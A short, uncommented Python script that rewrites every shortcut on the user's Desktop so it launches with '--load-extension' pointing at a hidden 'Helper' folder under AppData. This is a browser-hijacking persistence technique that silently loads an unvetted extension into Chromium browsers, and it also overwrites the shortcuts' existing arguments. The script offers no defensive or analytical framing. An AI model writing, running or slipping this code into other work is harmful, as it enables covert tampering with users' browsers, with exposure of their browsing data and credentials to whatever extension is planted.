import os

from win32com.client import Dispatch

shell = Dispatch("WScript.Shell")
folder = os.path.join(os.getenv("APPDATA"), "Helper")
for root, _, files in os.walk(os.path.expanduser("~/Desktop")):
    for name in files:
        if name.endswith(".lnk"):
            shortcut = shell.CreateShortcut(os.path.join(root, name))
            shortcut.Arguments = "--load-extension={}".format(folder)
            shortcut.Save()
